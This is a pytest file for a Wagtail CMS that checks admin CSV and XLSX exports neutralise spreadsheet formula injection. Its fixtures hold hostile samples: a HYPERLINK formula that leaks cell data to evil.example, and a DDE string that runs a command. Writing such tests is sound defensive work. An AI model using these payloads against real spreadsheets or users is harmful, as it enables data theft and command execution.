"""Admin CSV exports write user text as inert cells, never as live formulas."""

import csv
import io

import pytest
from wagtail.models import Workflow

from cms.spreadsheets import inert_cell
from stories.review.setup import WORKFLOW_NAME
from tests.factories import DepartmentFactory, StoryPageFactory, UserFactory
from tests.stories.conftest import submit

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_starting_like_a_formula_get_an_apostrophe(start):
    assert inert_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Plain title", "a=b", "", 42, None])
def test_other_cells_are_unchanged(value):
    assert inert_cell(value) == value


@pytest.fixture
def admin_client(client, author):
    """A superuser's client, with a story in review whose title and author name are formulas."""
    profile = author.author_profile
    profile.display_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    profile.job_title = "+1"
    profile.save()
    DepartmentFactory(name="-2+3")
    story = StoryPageFactory(owner=author, live=False, title=FORMULA)
    submit(Workflow.objects.get(name=WORKFLOW_NAME), story, author)
    story.locked, story.locked_by = True, author
    story.save(update_fields=["locked", "locked_by"])
    client.force_login(UserFactory(username="root", is_superuser=True))
    return client


def _csv_cells(response):
    assert response.status_code == 200
    content = getattr(response, "streaming_content", None)
    raw = b"".join(content) if content is not None else response.content
    return [cell for row in csv.reader(io.StringIO(raw.decode())) for cell in row]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("/admin/reports/site-history/", FORMULA),
        ("/admin/reports/workflow/", FORMULA),
        ("/admin/reports/workflow_tasks/", FORMULA),
        ("/admin/reports/aging-pages/", None),
        ("/admin/reports/locked/", FORMULA),
        ("/admin/snippets/authors/authorprofile/", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("/admin/reports/representation/", "-2+3"),
    ],
)
def test_every_admin_csv_export_writes_formulas_as_text(admin_client, url, expected):
    cells = _csv_cells(admin_client.get(url, {"export": "csv"}))
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    if expected is not None:
        assert "'" + expected in cells


def test_xlsx_export_keeps_a_formula_as_a_text_cell(admin_client):
    from openpyxl import load_workbook

    response = admin_client.get("/admin/reports/workflow/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)
